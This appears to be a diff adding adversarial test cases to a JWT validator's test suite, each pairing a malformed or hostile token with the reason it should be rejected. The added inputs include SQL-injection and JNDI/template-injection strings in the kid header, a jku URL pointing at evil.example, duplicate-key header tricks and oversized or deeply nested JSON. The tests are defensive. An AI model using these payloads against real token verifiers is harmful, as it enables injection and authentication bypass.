@@ -44,6 +44,21 @@ def with_embedded_key() -> str:
     return world.token(key=key, header={"jwk": world.jwk(key)})
 
 
+def flattened(*, general: bool = False) -> str:
+    """Write a valid token in the JSON serialisation (RFC 7515 7.2), as it would stand in a field."""
+    header, payload, signature = world.token().split(".")
+    signed = {"protected": header, "signature": signature}
+    whole = {"payload": payload, "signatures": [signed]} if general else {"payload": payload, **signed}
+    return json.dumps(whole, separators=(",", ":"))
+
+
+def stray_bits() -> str:
+    """Spell a valid token another way: the last character of 64 octets has four bits that count for nothing."""
+    token = world.token()
+    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    return token[:-1] + alphabet[alphabet.index(token[-1]) + 1]
+
+
 def changed(claim: str, value: object) -> str:
     """Change a claim of a valid token after it was signed."""
     header, _, signature = world.token().split(".")
@@ -66,6 +81,64 @@ ATTACKS = {
     "unknown kid": (world.token(header={"kid": "attacker"}), Reason.TOKEN_KEY_UNKNOWN),
     "kid that is a path": (world.token(header={"kid": "../../dev/null"}), Reason.TOKEN_KEY_UNKNOWN),
     "crit": (world.token(header={"crit": ["b64"], "b64": False}), Reason.TOKEN_MALFORMED),
+    "kid with SQL": (world.token(header={"kid": "x' OR '1'='1' --"}), Reason.TOKEN_KEY_UNKNOWN),
+    "kid with a template": (
+        world.token(header={"kid": "{{7*7}}${jndi:ldap://evil.example}"}),
+        Reason.TOKEN_KEY_UNKNOWN,
+    ),
+    "kid with NUL and line feed": (world.token(header={"kid": "operator-1\x00\n"}), Reason.TOKEN_KEY_UNKNOWN),
+    "kid that is a list": (world.token(header={"kid": [world.KEY_ID]}), Reason.TOKEN_MALFORMED),
+    "kid of 4,000 characters": (world.token(header={"kid": "k" * 4_000}), Reason.TOKEN_KEY_UNKNOWN),
+    "unknown crit": (world.token(header={"crit": ["exp"], "exp": 1}), Reason.TOKEN_MALFORMED),
+    "empty crit": (world.token(header={"crit": []}), Reason.TOKEN_MALFORMED),
+    "a URL of keys": (world.token(header={"jku": "https://evil.example/jwks"}), Reason.TOKEN_MALFORMED),
+    "a certificate": (world.token(header={"x5c": ["MIIB"]}), Reason.TOKEN_MALFORMED),
+    "compressed": (world.token(header={"zip": "DEF"}), Reason.TOKEN_MALFORMED),
+    "another token inside": (world.token(world.token().encode(), header={"cty": "JWT"}), Reason.TOKEN_MALFORMED),
+    "another token as payload": (world.token(world.token().encode()), Reason.TOKEN_MALFORMED),
+    "flattened JSON": (flattened(), Reason.TOKEN_MALFORMED),
+    "general JSON": (flattened(general=True), Reason.TOKEN_MALFORMED),
+    "encrypted": (world.token(header={"enc": "A256GCM"}), Reason.TOKEN_MALFORMED),
+    "header is a list": (world.token(header=b"[]"), Reason.TOKEN_MALFORMED),
+    "alg twice": (
+        world.token(header=b'{"alg":"none","alg":"ES256","kid":"operator-1","typ":"at+jwt"}'),
+        Reason.TOKEN_MALFORMED,
+    ),
+    "kid twice by an escape": (
+        world.token(header=b'{"alg":"ES256","kid":"operator-1","\\u006bid":"attacker","typ":"at+jwt"}'),
+        Reason.TOKEN_MALFORMED,
+    ),
+    "a claim twice": (
+        world.token(json.dumps(world.claims()).encode()[:-1] + b', "sub": "blue-backend"}'),
+        Reason.TOKEN_MALFORMED,
+    ),
+    "claims in UTF-16": (world.token(json.dumps(world.claims()).encode("utf-16")), Reason.TOKEN_MALFORMED),
+    "claims with a byte order mark": (
+        world.token(b"\xef\xbb\xbf" + json.dumps(world.claims()).encode()),
+        Reason.TOKEN_MALFORMED,
+    ),
+    "half a surrogate pair": (world.token(b'{"sub": "\\ud800"}'), Reason.TOKEN_MALFORMED),
+    "deep JSON in the claims": (world.token(b"[" * 2_500 + b"]" * 2_500), Reason.TOKEN_MALFORMED),
+    "deep JSON in a claim": (
+        world.token(b'{"iss":' + b"[" * 2_400 + b"]" * 2_400 + b',"exp":1795352500}'),
+        Reason.TOKEN_CLAIM,
+    ),
+    "a header of 12 KB": (world.token(header={"pad": "x" * 9_000}), Reason.TOKEN_MALFORMED),
+    "expiry that is NaN": (world.token(b'{"exp": NaN}'), Reason.TOKEN_MALFORMED),
+    "expiry that is infinite": (world.token(b'{"exp": Infinity}'), Reason.TOKEN_MALFORMED),
+    "expiry beyond a double": (world.token(b'{"exp": 1e999}'), Reason.TOKEN_MALFORMED),
+    "expiry in milliseconds": (world.token(world.claims(exp=(int(world.NOW) + 60) * 1000)), Reason.TOKEN_CLAIM),
+    "expiry of 5,000 digits": (world.token(b'{"exp": ' + b"9" * 5_000 + b"}"), Reason.TOKEN_MALFORMED),
+    "expiry that is true": (world.token(world.claims(exp=True)), Reason.TOKEN_CLAIM),
+    "expiry that is a list": (world.token(world.claims(exp=[int(world.NOW) + 60])), Reason.TOKEN_CLAIM),
+    "expiry below zero": (world.token(world.claims(exp=-1)), Reason.TOKEN_CLAIM),
+    "expiry that is a float of the past": (
+        world.token(world.claims(exp=world.NOW - 10.5, iat=int(world.NOW) - 100)),
+        Reason.TOKEN_EXPIRED,
+    ),
+    "stray bits in the signature": (stray_bits(), Reason.TOKEN_MALFORMED),
+    "the other alphabet of base64": (unsigned({"alg": "ES256"}, "+/+/"), Reason.TOKEN_MALFORMED),
+    "white space in base64": (world.token().replace(".", ".%20", 1), Reason.TOKEN_MALFORMED),
     "two parts": (world.token().rpartition(".")[0], Reason.TOKEN_MALFORMED),
     "four parts": (world.token() + ".x", Reason.TOKEN_MALFORMED),
     "padding": (world.token() + "==", Reason.TOKEN_MALFORMED),
